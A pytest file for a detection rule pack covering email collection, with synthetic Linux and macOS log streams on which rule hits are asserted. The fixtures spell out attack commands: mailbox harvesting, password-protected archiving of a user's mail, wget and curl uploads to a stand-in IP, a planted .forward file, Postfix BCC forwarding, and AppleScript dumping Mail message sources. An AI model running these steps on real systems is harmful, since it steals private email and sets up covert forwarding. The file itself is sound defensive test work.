"""`t1114 scan` over Linux and macOS recordings the pack has never seen.

The public corpus holds no Linux or macOS mail recordings, so these streams are written
here: a session on a mail server and one on a Mac, attack steps among routine activity,
different from every fixture (other hosts, users, tools and paths). Each test asserts the
exact hits, and so also that nothing else fires.
"""

from __future__ import annotations

import json

import pytest

from t1114.scan import scan
from t1114.targets import all_targets

GS = "\x1d"


def _hits(pack, target, path):
    names = {r.id: r.name for r in pack.rules}
    return sorted(
        (names[h["rule_id"]], tuple(h["event_indices"]))
        for h in scan(pack, all_targets()[target], [path])
    )


# --- native: a raw audit.log, and Sysmon for Linux / Endpoint Security JSON Lines -----------------


def _syscall(node, ts, serial, exe, comm, key, auid, name, uid=None):
    uid = auid if uid is None else uid
    keyv = f'"{key}"' if key else "(null)"
    return (
        f"node={node} type=SYSCALL msg=audit({ts}:{serial}): arch=c000003e syscall=257 success=yes exit=3 "
        f"a0=ffffff9c a1=7ffe01b0 a2=0 a3=0 items=1 ppid=3100 pid=3{serial} auid={auid} uid={uid} tty=pts1 ses=9 "
        f'comm="{comm}" exe="{exe}" key={keyv}{GS}ARCH=x86_64 SYSCALL=openat AUID="{name}" UID="{name}"'
    )


def _path(node, ts, serial, name):
    return f'node={node} type=PATH msg=audit({ts}:{serial}): item=0 name="{name}" inode=5511 nametype=NORMAL'


AUDIT_LOG = [
    # 0 Postfix's local agent appends to carol's spool: mail software
    _syscall(
        "mx02",
        "1732186800.101",
        8101,
        "/usr/libexec/postfix/local",
        "local",
        "t1114_mail_store",
        4294967295,
        "unset",
        0,
    ),
    _path("mx02", "1732186800.101", 8101, "/var/mail/carol"),
    # 1 rsync run by the ops account reads the virtual mail root; its records interleave with event 2
    _syscall(
        "mx02", "1732186805.377", 8102, "/usr/bin/rsync", "rsync", "t1114_mail_store", 1010, "ops"
    ),
    # 2 Dovecot's imap process serves the same mailbox to carol's client
    _syscall(
        "mx02",
        "1732186805.390",
        8103,
        "/usr/libexec/dovecot/imap",
        "imap",
        "t1114_mail_store",
        4294967295,
        "unset",
        1003,
    ),
    _path(
        "mx02",
        "1732186805.377",
        8102,
        "/var/vmail/corp.example/carol/Maildir/cur/1732180000.M1P9.mx02:2,S",
    ),
    _path(
        "mx02",
        "1732186805.390",
        8103,
        "/var/vmail/corp.example/carol/Maildir/cur/1732180000.M1P9.mx02:2,S",
    ),
    "node=mx02 type=EOE msg=audit(1732186805.377:8102):",
    # 3 less pages carol's saved mail folder (name hex-encoded: it holds a space)
    _syscall(
        "mx02", "1732186850.004", 8104, "/usr/bin/less", "less", "t1114_mail_store", 1010, "ops"
    ),
    "node=mx02 type=PATH msg=audit(1732186850.004:8104): item=0 name=2F686F6D652F6361726F6C2F6D61696C2F73656E74206D61696C nametype=NORMAL",
    # 4 an ssh login: a user-space record, no watch key
    "node=mx02 type=USER_LOGIN msg=audit(1732186700.000:8100): pid=2990 uid=0 auid=1010 ses=9 "
    "msg='op=login id=1010 exe=\"/usr/sbin/sshd\" hostname=10.0.4.20 addr=10.0.4.20 terminal=/dev/pts/1 res=success'",
    # 5 vim writes Postfix's main.cf: another watch's key
    _syscall(
        "mx02", "1732186900.250", 8105, "/usr/bin/vim.basic", "vim", "postfix_conf", 0, "root"
    ),
    _path("mx02", "1732186900.250", 8105, "/etc/postfix/main.cf"),
]


def _sysmon(eid, ts, host, user, data):
    system = {
        "Provider": {"#attributes": {"Name": "Linux-Sysmon"}},
        "EventID": eid,
        "TimeCreated": {"#attributes": {"SystemTime": ts}},
        "Channel": "Linux-Sysmon/Operational",
        "Computer": host,
    }
    return {"Event": {"System": system, "EventData": {"User": user, **data}}}


def _lproc(ts, image, cmd, cwd="/home/ops", user="ops", host="mx02.corp.example"):
    return _sysmon(
        1,
        ts,
        host,
        user,
        {
            "Image": image,
            "CommandLine": cmd,
            "CurrentDirectory": cwd,
            "ParentImage": "/usr/bin/bash",
        },
    )


def _lfile(ts, image, path, user="ops", host="mx02.corp.example"):
    return _sysmon(11, ts, host, user, {"Image": image, "TargetFilename": path})


def _exec(ts, image, args, cwd="/Users/klee", host="MBP-KLEE", parent="/bin/zsh"):
    return {
        "event_type": 9,
        "time": ts,
        "host": {"hostname": host},
        "process": {"executable": {"path": parent}},
        "event": {
            "exec": {"args": args, "cwd": {"path": cwd}, "target": {"executable": {"path": image}}}
        },
    }


def _es_file(ts, image, kind, path, source=None):
    if kind == "write":
        event, number = {"write": {"target": {"path": path}}}, 33
    else:
        event, number = (
            {
                "rename": {
                    "source": {"path": source},
                    "destination_type": 0,
                    "destination": {"existing_file": {"path": path}},
                }
            },
            25,
        )
    return {
        "event_type": number,
        "time": ts,
        "process": {"executable": {"path": image}},
        "event": event,
    }


MAIL = "/Users/klee/Library/Mail/V10"
JSONL = [
    _lproc("2026-11-21T11:00:00Z", "/usr/bin/id", "id"),  # 0
    _lproc(
        "2026-11-21T11:00:20Z", "/usr/bin/find", "find /home -maxdepth 3 -iname maildir"
    ),  # 1 harvest
    _lproc(
        "2026-11-21T11:01:05Z", "/usr/bin/7z", "7z a -pS3cret /tmp/.sys/c.7z /home/carol/mail/"
    ),  # 2 mail store
    _lproc("2026-11-21T11:01:40Z", "/usr/bin/ls", "ls -la /tmp/.sys"),  # 3
    _lproc(
        "2026-11-21T11:05:12Z",
        "/usr/bin/wget",
        "wget -q --post-file=/tmp/.sys/c.7z http://198.51.100.7/u",
    ),  # 4 exfil
    _lproc(
        "2026-11-21T11:06:00Z",
        "/usr/bin/mutt",
        "mutt -f /var/mail/carol",
        user="carol",
        cwd="/home/carol",
    ),  # 5 mail client
    _lproc(
        "2026-11-21T11:07:00Z",
        "/usr/bin/curl",
        "curl -fsS -o /tmp/pkg.deb https://pkg.example/x.deb",
    ),  # 6 download
    _lfile("2026-11-21T11:08:00Z", "/usr/bin/python3", "/home/carol/.forward"),  # 7 .forward
    _lfile("2026-11-21T11:08:30Z", "/usr/bin/bash", "/home/carol/.bash_history", user="carol"),  # 8
    _lproc(
        "2026-11-21T11:09:00Z", "/usr/sbin/postconf", "postconf -n", user="root", cwd="/root"
    ),  # 9
    _lproc(
        "2026-11-21T11:09:30Z",
        "/usr/sbin/postconf",
        "postconf -e sender_bcc_maps = hash:/etc/postfix/sbcc",
        user="root",
        cwd="/root",
    ),  # 10
    _exec(
        "2026-11-21T12:00:00Z",
        "/usr/bin/osascript",
        ["osascript", "-e", 'display notification "done"'],
    ),  # 11
    _exec(
        "2026-11-21T12:00:30Z",
        "/usr/bin/osascript",
        ["osascript", "-e", 'tell application "Mail" to quit'],
    ),  # 12
    _exec(
        "2026-11-21T12:01:00Z",
        "/usr/bin/osascript",
        [
            "osascript",
            "-e",
            'tell application "Mail" to set s to source of every message of mailbox "Sent Messages" of account 1',
        ],
    ),  # 13 automation
    _exec(
        "2026-11-21T12:03:00Z",
        "/usr/bin/zip",
        ["zip", "-r", "-q", "/Users/Shared/.cache.zip", MAIL],
    ),  # 14 store copy
    _es_file("2026-11-21T12:03:01Z", "/usr/bin/zip", "write", "/Users/Shared/.cache.zip"),  # 15
    _es_file(
        "2026-11-21T12:04:00Z", "/bin/cp", "write", "/Users/Shared/.c/77120.emlx"
    ),  # 16 message copy
    _es_file(
        "2026-11-21T12:05:00Z",
        "/System/Applications/Mail.app/Contents/MacOS/Mail",
        "write",
        f"{MAIL}/MailData/SyncedRules.plist",
    ),  # 17
    _es_file(
        "2026-11-21T12:06:00Z",
        "/usr/bin/osascript",
        "rename",
        f"{MAIL}/MailData/UnsyncedRules.plist",
        f"{MAIL}/MailData/.u.tmp",
    ),  # 18
    _exec(
        "2026-11-21T12:07:00Z",
        "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
        [
            "mdworker_shared",
            "-s",
            "mdworker",
            "-c",
            "MDSImporterWorker",
            "-m",
            "com.apple.mdworker.shared",
        ],
        cwd="/",
        parent="/sbin/launchd",
    ),  # 19
]


def test_native_audit_log_flags_only_non_mail_readers(pack, tmp_path):
    log = tmp_path / "audit.log"
    log.write_text("\n".join(AUDIT_LOG) + "\n")
    assert _hits(pack, "native", log) == [
        ("lnx_auditd_mail_store_read_by_non_mail_program", (1,)),
        ("lnx_auditd_mail_store_read_by_non_mail_program", (3,)),
    ]


def test_audit_logs_in_a_directory_are_scanned(pack, tmp_path):
    (tmp_path / "host").mkdir()
    (tmp_path / "host" / "audit.log.1").write_text("\n".join(AUDIT_LOG) + "\n")
    (tmp_path / "host" / "notes.txt").write_text("not an event file\n")
    hits = list(scan(pack, all_targets()["native"], [tmp_path]))
    assert {h["file"] for h in hits} == {str(tmp_path / "host" / "audit.log.1")} and len(hits) == 2


def test_native_mixed_linux_and_macos_stream(pack, tmp_path):
    path = tmp_path / "sessions.jsonl"
    path.write_text("\n".join(json.dumps(e) for e in JSONL) + "\n")
    assert _hits(pack, "native", path) == sorted(
        [
            ("lnx_mail_harvest_across_mailboxes", (1,)),
            ("lnx_mail_store_accessed_by_file_tool", (2,)),
            ("lnx_exfiltration_tool_upload", (4,)),
            ("lnx_mail_store_access_then_exfiltration", (2, 4)),
            ("lnx_forward_file_created_in_home", (7,)),
            ("lnx_mail_server_forwarding_configured", (10,)),
            ("macos_osascript_mail_automation", (13,)),
            ("macos_mail_data_copied_by_cli_tool", (14,)),
            ("macos_mail_automation_and_mail_data_access", (13, 14)),
            ("macos_mail_data_written_by_non_mail_process", (16,)),
            # a rules file inside the store: both a write to the store and a rule change
            ("macos_mail_data_written_by_non_mail_process", (18,)),
            ("macos_mail_rules_changed_outside_mail", (18,)),
        ]
    )


# --- Splunk: linux:audit indexed one record per event, exported as search results ------------------


def _record(line, host="mx02"):
    body = line.split(" ", 1)[1]  # drop node=
    kind, rest = body.split(" ", 1)
    fields = {
        "_time": "2026-11-21T11:00:05Z",
        "host": host,
        "sourcetype": "linux:audit",
        "type": kind.split("=")[1],
    }
    for part in rest.replace(GS, " ").split(" ")[1:]:
        if "=" in part:
            k, v = part.split("=", 1)
            fields.setdefault(k, v.strip('"'))
    return {"preview": False, "result": fields}


def test_splunk_per_record_export(pack, tmp_path):
    path = tmp_path / "splunk_export.json"
    records = [AUDIT_LOG[i] for i in (0, 1, 2, 3, 4, 5, 7, 8)]
    path.write_text("\n".join(json.dumps(_record(r)) for r in records) + "\n")
    # the rsync SYSCALL record (position 2) and less's (position 6); no PATH record alone
    assert _hits(pack, "splunk", path) == [
        ("lnx_auditd_mail_store_read_by_non_mail_program", (2,)),
        ("lnx_auditd_mail_store_read_by_non_mail_program", (6,)),
    ]


# --- Elastic: auditd_manager and Elastic Defend documents, exported as search hits -----------------


def _defend_proc(ts, os_type, host, user, image, args, cwd):
    return {
        "@timestamp": ts,
        "data_stream": {"dataset": "endpoint.events.process"},
        "event": {"action": "exec", "category": ["process"], "type": ["start"]},
        # host.name and host.hostname both, as Defend records them (endpoint sample event)
        "host": {"name": host, "hostname": host, "os": {"type": os_type}},
        "user": {"name": user},
        "process": {
            "executable": image,
            "command_line": " ".join(args),
            "args": args,
            "working_directory": cwd,
        },
    }


def _auditbeat(ts, exe, key, path):
    return {
        "@timestamp": ts,
        "data_stream": {"dataset": "auditd_manager.auditd"},
        "auditd": {"message_type": "syscall", "paths": [{"name": path}]},
        "tags": [key],
        "process": {"executable": exe},
        "host": {"name": "mx02"},
    }


ELASTIC = [
    _auditbeat(
        "2026-11-21T11:00:00Z", "/usr/libexec/postfix/local", "t1114_mail_store", "/var/mail/carol"
    ),  # 0
    _auditbeat(
        "2026-11-21T11:00:05Z",
        "/usr/bin/rsync",
        "t1114_mail_store",
        "/var/vmail/corp.example/carol/Maildir",
    ),  # 1
    _defend_proc(
        "2026-11-21T11:01:00Z",
        "linux",
        "mx02",
        "ops",
        "/usr/bin/tar",
        ["tar", "cf", "/tmp/.s.tar", "/var/spool/mail"],
        "/home/ops",
    ),  # 2
    _defend_proc(
        "2026-11-21T11:02:00Z",
        "linux",
        "mx02",
        "ops",
        "/usr/bin/curl",
        ["curl", "-fsSL", "https://pkg.example/key.gpg"],
        "/home/ops",
    ),  # 3
    _defend_proc(
        "2026-11-21T11:04:00Z",
        "linux",
        "mx02",
        "ops",
        "/usr/bin/curl",
        ["curl", "--data-binary", "@/tmp/.s.tar", "https://198.51.100.7/u"],
        "/home/ops",
    ),  # 4
    # the same tar command on a Mac: another platform's process source
    _defend_proc(
        "2026-11-21T11:05:00Z",
        "macos",
        "MBP-KLEE",
        "klee",
        "/usr/bin/tar",
        ["tar", "cf", "/tmp/.s.tar", "/var/spool/mail"],
        "/Users/klee",
    ),  # 5
    _defend_proc(
        "2026-11-21T12:00:00Z",
        "macos",
        "MBP-KLEE",
        "klee",
        "/usr/bin/osascript",
        [
            "osascript",
            "-l",
            "JavaScript",
            "-e",
            'Application("Mail").accounts().map(a => a.emailAddresses())',
        ],
        "/Users/klee",
    ),  # 6
    _defend_proc(
        "2026-11-21T12:02:00Z",
        "macos",
        "MBP-KLEE",
        "klee",
        "/usr/bin/ditto",
        ["ditto", MAIL, "/private/var/tmp/.m"],
        "/Users/klee",
    ),  # 7
]


def test_elastic_hits_export(pack, tmp_path):
    path = tmp_path / "hits.json"
    path.write_text(
        json.dumps({"hits": {"hits": [{"_index": ".ds-logs", "_source": d} for d in ELASTIC]}})
    )
    assert _hits(pack, "elastic", path) == sorted(
        [
            ("lnx_auditd_mail_store_read_by_non_mail_program", (1,)),
            ("lnx_mail_store_accessed_by_file_tool", (2,)),
            ("lnx_exfiltration_tool_upload", (4,)),
            ("lnx_mail_store_access_then_exfiltration", (2, 4)),
            ("macos_osascript_mail_automation", (6,)),
            ("macos_mail_data_copied_by_cli_tool", (7,)),
            ("macos_mail_automation_and_mail_data_access", (6, 7)),
        ]
    )


@pytest.mark.parametrize("target", ["native", "splunk", "elastic"])
def test_routine_activity_alone_is_silent(pack, tmp_path, target):
    """Every benign event of the streams above, without the attack steps."""
    path = tmp_path / "benign.jsonl"
    benign = {
        "native": [JSONL[i] for i in (0, 3, 5, 6, 8, 9, 11, 12, 15, 17, 19)],
        "splunk": [_record(AUDIT_LOG[i]) for i in (0, 1, 3, 4, 5, 8, 9, 10, 11)],
        "elastic": [ELASTIC[i] for i in (0, 3, 5)],
    }[target]
    path.write_text("\n".join(json.dumps(e) for e in benign) + "\n")
    assert _hits(pack, target, path) == []
